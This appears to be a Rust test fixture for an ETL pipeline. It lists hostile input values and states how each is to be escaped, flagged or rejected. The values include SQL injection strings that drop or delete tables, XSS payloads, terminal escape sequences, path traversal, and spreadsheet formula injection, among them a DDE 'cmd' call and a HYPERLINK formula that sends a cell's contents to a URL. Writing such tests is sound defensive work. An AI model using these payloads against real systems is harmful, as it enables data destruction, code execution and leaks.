//! The hostile values, and what is to become of each.

/// A text that ends as data.
pub(super) struct Text {
    /// As in the API's answer.
    pub(super) json: String,
    /// As it has to come out.
    pub(super) value: String,
    /// A spreadsheet would take it for a formula.
    pub(super) formula: bool,
    /// Half of a surrogate pair in it became U+FFFD, and is a reject besides.
    pub(super) lossy: bool,
}

const TEXTS: &[&str] = &[
    "",
    " ",
    " blanks around ",
    "NULL",
    "null",
    "\\N",
    "∅",
    // SQL
    "Robert'); DROP TABLE prospects;--",
    "\"; DELETE FROM etl.runs; --",
    "$$ || current_setting('x') || $$",
    // HTML, Markdown
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "&lt;&#60;&amp;",
    "[x](javascript:alert(1)) `code` | pipe \\",
    // Terminals: CSI, OSC, C1 forms of both, bell, backspaces, DEL, a title, a hyperlink
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;owned\u{7}",
    "\u{9b}31mred",
    "\u{9d}0;owned\u{9c}",
    "\u{1b}]8;;http://example.com\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "a\u{8}\u{8}b\u{7f}\u{7}",
    "\u{85}\u{84}\u{90}",
    // Direction and invisible characters
    "\u{202e}fdp.exe",
    "\u{2066}a\u{2069}\u{200f}\u{200e}\u{61c}",
    "No\u{200b}kia\u{feff}\u{ad}",
    "\u{e0041}\u{fff9}",
    // Lines
    "a\nb",
    "a\r\nb\rc",
    "a\u{2028}b\u{2029}c",
    // Delimiters
    "a,b;c\td",
    "\"quoted\" and \"\"twice\"\"",
    // Paths
    "../../x",
    ".",
    "..",
    "/",
    "%",
    "%2e%2e%2f",
    "C:\\con",
    // NUL
    "a\0b",
    "\0",
    // Numbers and JSON as text
    "1234567890123456789012345678901234567890",
    "1994-13-40",
    "1e400",
    "{\"a\":[1,null]}",
    "[[[[",
    // Beyond the basic plane, combining marks
    "😀👨‍👩‍👧",
    "e\u{301}\u{302}\u{303}\u{304}",
    "株式会社",
    "ÅÄÖ",
];

const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
];

/// JSON with a lone surrogate, and the text that is kept of it.
const LOSSY: &[(&str, &str)] = &[
    (r#""\ud800""#, "\u{fffd}"),
    (r#""a\udc00b""#, "a\u{fffd}b"),
    (r#""\ud800\ud83d\ude00""#, "\u{fffd}😀"),
];

/// All texts, and one of five megabytes.
pub(super) fn texts() -> Vec<Text> {
    let long = "å\"\u{1b}".repeat(5 << 18);
    let plain = |text: &str, formula| Text {
        json: serde_json::to_string(text).unwrap(),
        value: text.to_owned(),
        formula,
        lossy: false,
    };
    let lossy = LOSSY.iter().map(|(json, value)| Text {
        json: (*json).to_owned(),
        value: (*value).to_owned(),
        formula: false,
        lossy: true,
    });
    let texts = TEXTS.iter().map(|text| plain(text, false));
    texts
        .chain(FORMULAS.iter().map(|text| plain(text, true)))
        .chain(lossy)
        .chain([plain(&long, false)])
        .collect()
}

/// A record of which something is rejected.
pub(super) struct Rejected {
    /// Its business id, when the record becomes a row.
    pub(super) key: Option<&'static str>,
    /// Country as JSON.
    country: &'static str,
    /// The field with the value.
    field: &'static str,
    /// The value as JSON; made longer by [`Rejected::nested`].
    json: &'static str,
    nested: usize,
    reason: &'static str,
}

const fn cell(key: &'static str, field: &'static str, json: &'static str, reason: &'static str) -> Rejected {
    Rejected { key: Some(key), country: "\"FI\"", field, json, nested: 0, reason }
}

/// A record whose country is no country.
const fn foreign(country: &'static str, reason: &'static str) -> Rejected {
    Rejected { key: None, country, field: "city", json: "\"x\"", nested: 0, reason }
}

const NO_COUNTRY: &str = "no usable key: country is not a country code of two letters";

pub(super) const REJECTED: &[Rejected] = &[
    cell("9001", "turn_over", "1234567890123456789012345678901234567890", "a number beyond DECIMAL(18,2)"),
    cell(
        "9002",
        "turn_over",
        "\"1234567890123456789012345678901234567890\"",
        "a number beyond DECIMAL(18,2)",
    ),
    cell("9003", "registration_date", "\"1994-13-40\"", "no such day in the calendar"),
    cell("9004", "staff_number", "1e400", "a number beyond 64 bits"),
    cell("9005", "staff_number", "\"=1+1\"", "not a number"),
    cell("9006", "turn_over", "\"\\u001b[31m1\"", "not a number"),
    cell("9007", "city", "[\"../../x\"]", "a list"),
    cell("9008", "city", "{\"\\u202e\":1}", "an object"),
    Rejected { nested: 1000, ..cell("9009", "mother", "", "nested too deep") },
    Rejected { nested: 1000, ..cell("9010", "x_deep", "", "nested too deep") },
    foreign("\"../../x\"", NO_COUNTRY),
    foreign("\".\"", NO_COUNTRY),
    foreign("\"/\"", NO_COUNTRY),
    foreign("\"%\"", NO_COUNTRY),
    foreign("\"\"", "no usable key: country is missing or empty"),
    foreign("null", "no usable key: country is missing or empty"),
    foreign("\"\\ud800\"", "no usable key: country is half of a surrogate pair"),
];

impl Rejected {
    fn value(&self) -> String {
        if self.nested == 0 {
            return self.json.to_owned();
        }
        format!("{}{}", "[".repeat(self.nested), "]".repeat(self.nested))
    }

    /// The record as the API gives it.
    pub(super) fn record(&self) -> String {
        let Self { key, country, field, .. } = self;
        let id = key.unwrap_or("9999");
        format!(r#"{{"country":{country},"business_id":"{id}","{field}":{}}}"#, self.value())
    }

    /// Key, field, raw value and reason as `etl.rejects` has them; `-` is NULL.
    pub(super) fn reject(&self) -> [String; 4] {
        let reason = self.reason.to_owned();
        match self.key {
            Some(key) => [format!("FI/{key}"), self.field.to_owned(), self.value(), reason],
            // The country is what is wrong with each of them.
            None => ["-".to_owned(), "country".to_owned(), self.record(), reason],
        }
    }
}
